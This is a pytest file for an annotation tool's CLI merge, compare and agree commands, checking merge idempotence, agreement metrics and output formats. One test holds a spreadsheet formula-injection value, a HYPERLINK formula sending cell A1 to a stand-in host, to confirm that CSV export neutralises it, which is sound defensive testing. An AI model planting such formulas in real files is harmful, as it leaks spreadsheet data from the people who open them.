"""``annotator merge``, ``compare`` and ``agree`` end to end on real files."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from annotator.cli import main
from tests.review_support import add, project

project_xml = pytest.importorskip("annotator.formats.project_xml")

TEXT = "Amnesty urged the authorities to release Sané 😀 and the students now."


def _files(tmp_path: Path) -> tuple[Path, Path]:
    mine = project(TEXT, layers=("alice",))
    add(mine, "alice", "d1", "appeal", (8, 56))
    add(mine, "alice", "d1", "victim", (41, 45))
    theirs = project(TEXT, layers=("bob",))
    add(theirs, "bob", "d1", "appeal", (8, 56))
    add(theirs, "bob", "d1", "victim", (41, 47))
    add(theirs, "bob", "d1", "authority", (14, 29))
    a, b = tmp_path / "alice.xml", tmp_path / "bob.xml"
    project_xml.save_project(mine, a)
    project_xml.save_project(theirs, b)
    return a, b


def test_merge_then_merge_again_is_byte_identical(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    a, b = _files(tmp_path)
    out = tmp_path / "merged.xml"
    assert main(["merge", str(a), str(b), "-o", str(out)]) == 0
    assert "New layers: bob." in capsys.readouterr().out
    merged, _ = project_xml.load_project(out)
    assert set(merged.layers) >= {"alice", "bob"}
    first = out.read_bytes()
    again = tmp_path / "again.xml"
    assert main(["merge", str(out), str(b), "-o", str(again)]) == 0
    assert again.read_bytes() == first
    assert "0 annotations added" in capsys.readouterr().out


def test_merge_reports_differing_text(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    a, _b = _files(tmp_path)
    other = project("Today: " + TEXT, layers=("bob",))
    add(other, "bob", "d1", "victim", (48, 52))
    c = tmp_path / "changed.xml"
    project_xml.save_project(other, c)
    out = tmp_path / "m.xml"
    assert main(["merge", str(a), str(c), "-o", str(out)]) == 0
    text = capsys.readouterr().out
    assert "d1 has a different text" in text
    assert main(["merge", str(a), str(c), "-o", str(out), "--reanchor"]) == 0
    merged, _ = project_xml.load_project(out)
    (ann,) = merged.layers["bob"].docs["d1"].annotations.values()
    assert ann.covered_text(merged.documents["d1"].text) == "Sané"


def test_compare_and_agree_outputs(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    a, b = _files(tmp_path)
    out = tmp_path / "merged.xml"
    main(["merge", str(a), str(b), "-o", str(out)])
    capsys.readouterr()
    assert main(["compare", str(out), "--layers", "alice,bob"]) == 0
    text = capsys.readouterr().out
    assert "same tag, different boundaries" in text and "missing in a layer" in text
    assert main(["compare", str(out), "--json"]) == 0
    data = json.loads(capsys.readouterr().out)
    assert data["per_document"] == {"d1": 2}
    assert {i["class"] for i in data["items"]} == {"boundary", "missing"}

    assert main(["agree", str(out), "--layers", "alice,bob", "--json"]) == 0
    rep = json.loads(capsys.readouterr().out)
    f1 = next(m for m in rep["measures"] if m["measure"] == "f1_exact" and m["tag"] == "*")
    assert f1["value"] == pytest.approx(2 * 1 / 5)
    assert "word characters" in rep["tokeniser"]
    assert main(["agree", str(out), "--csv", "--per-document"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert {r["scope"] for r in rows} == {"project", "d1"}
    html_out = tmp_path / "agree.html"
    assert main(["agree", str(out), "--html", "-o", str(html_out)]) == 0
    page = html_out.read_text(encoding="utf-8")
    assert page.startswith("<!DOCTYPE html>") and "Cohen" in page
    assert main(["agree", str(out)]) == 0
    assert "Krippendorff" in capsys.readouterr().out


def test_agree_csv_guards_text_cells_not_numbers(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A release id from a file named ``=HYPERLINK(…).txt`` and a layer named ``@eve`` reach
    the agreement CSV: a spreadsheet must show them, not run them. Negative figures stay
    numbers."""
    from annotator.model import Document

    p = project(layers=("@eve", "bob"))
    p.add_document(Document(id='=HYPERLINK("http://x.example/?"&A1)', text=TEXT))
    doc = next(iter(p.documents))
    add(p, "@eve", doc, "appeal", (8, 30))
    add(p, "bob", doc, "appeal", (30, 56))
    add(p, "bob", doc, "victim", (41, 45))
    path = tmp_path / "eve.xml"
    project_xml.save_project(p, path)
    assert main(["agree", str(path), "--layers", "@eve,bob", "--csv", "--per-document"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    scopes = {r["scope"] for r in rows}
    assert scopes == {"project", "'" + doc}
    assert {r["layers"][:2] for r in rows} == {"'@"}
    assert all(r["measure"][0] not in "=+-@" and r["tag"][0] not in "=+-@" for r in rows)
    values = [float(r["value"]) for r in rows if r["value"]]
    assert any(v < 0 for v in values)  # e.g. κ below chance, written as a number


def test_bad_input_is_one_sentence(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    a, _ = _files(tmp_path)
    assert main(["agree", str(a), "--layers", "alice,nobody"]) == 1
    err = capsys.readouterr().err
    assert err.startswith("annotator: error:") and "nobody" in err and "Traceback" not in err
    assert main(["compare", str(a), "--document", "zzz"]) == 1
    assert "zzz" in capsys.readouterr().err
